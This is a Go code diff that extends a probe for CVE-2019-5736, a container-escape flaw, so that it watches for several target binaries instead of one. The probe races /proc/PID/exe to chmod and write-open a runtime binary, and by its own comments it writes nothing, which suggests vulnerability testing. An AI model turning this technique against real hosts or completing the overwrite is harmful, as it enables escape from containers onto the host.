@@ -10,28 +10,33 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// target is the file the attack is after, named by device and inode.
+// target is a file the attack is after, named by device and inode.
 type target struct{ dev, ino uint64 }
 
-func parseTarget(s string) (target, error) {
-	d, i, ok := strings.Cut(s, ":")
-	dev, err1 := strconv.ParseUint(d, 10, 64)
-	ino, err2 := strconv.ParseUint(i, 10, 64)
-	if !ok || err1 != nil || err2 != nil {
-		return target{}, fmt.Errorf("bad DEV:INO %q", s)
+// parseTargets reads DEV:INO[,DEV:INO...].
+func parseTargets(s string) (map[target]bool, error) {
+	out := map[target]bool{}
+	for _, one := range strings.Split(s, ",") {
+		d, i, ok := strings.Cut(one, ":")
+		dev, err1 := strconv.ParseUint(d, 10, 64)
+		ino, err2 := strconv.ParseUint(i, 10, 64)
+		if !ok || err1 != nil || err2 != nil {
+			return nil, fmt.Errorf("bad DEV:INO %q", one)
+		}
+		out[target{dev, ino}] = true
 	}
-	return target{dev, ino}, nil
+	return out, nil
 }
 
 // exeAttack is CVE-2019-5736's first step: watch /proc for any process
-// whose executable is the target (the runtime's binary on the host: pause,
+// whose executable is a target (the runtime's programs on the host: pause,
 // or a container init before it execs the user command), and through its
 // /proc/PID/exe try to chmod the target and open it for writing. It keeps
 // an O_PATH descriptor of the first hit, which outlives the race window,
 // and retries through that at the end. Nothing is ever written: chmod sets
 // the mode the file already has, and a write open is closed at once.
 func exeAttack(args []string) error {
-	tgt, err := parseTarget(args[0])
+	tgts, err := parseTargets(args[0])
 	if err != nil {
 		return err
 	}
@@ -39,8 +44,8 @@ func exeAttack(args []string) error {
 	if err != nil {
 		return err
 	}
-	a := &exeAttacker{tgt: tgt, seen: map[int]bool{}, held: -1}
-	fmt.Printf("watching /proc for %d:%d\n", tgt.dev, tgt.ino)
+	a := &exeAttacker{tgts: tgts, seen: map[int]bool{}, held: -1}
+	fmt.Printf("watching /proc for %s\n", args[0])
 	for end := time.Now().Add(d); time.Now().Before(end); {
 		a.scan()
 		time.Sleep(300 * time.Microsecond)
@@ -51,10 +56,10 @@ func exeAttack(args []string) error {
 }
 
 type exeAttacker struct {
-	tgt  target
-	seen map[int]bool // pids whose exe was the target
-	held int          // O_PATH fd of the target, or -1
-	mode uint32
+	tgts map[target]bool
+	seen map[int]bool // pids whose exe was a target
+	held int          // O_PATH fd of a target, or -1
+	mode uint32       // the held target's mode
 }
 
 // scan tries every process in /proc once.
@@ -76,17 +81,17 @@ func (a *exeAttacker) scan() {
 func (a *exeAttacker) try(pid int) {
 	p := "/proc/" + strconv.Itoa(pid) + "/exe"
 	var st unix.Stat_t
-	if unix.Stat(p, &st) != nil || st.Dev != a.tgt.dev || st.Ino != a.tgt.ino {
+	if unix.Stat(p, &st) != nil || !a.tgts[target{st.Dev, st.Ino}] {
 		return
 	}
 	a.seen[pid] = true
-	a.mode = st.Mode & 0o7777
+	mode := st.Mode & 0o7777
 	fmt.Printf("pid %d: %s is the target\n", pid, p)
-	report(pid, "chmod", unix.Chmod(p, a.mode))
+	report(pid, "chmod", unix.Chmod(p, mode))
 	report(pid, "open for writing", openClose(p, unix.O_WRONLY))
 	if a.held < 0 {
 		if fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
-			a.held = fd
+			a.held, a.mode = fd, mode
 			fmt.Printf("pid %d: holding an O_PATH fd of the target\n", pid)
 		}
 	}
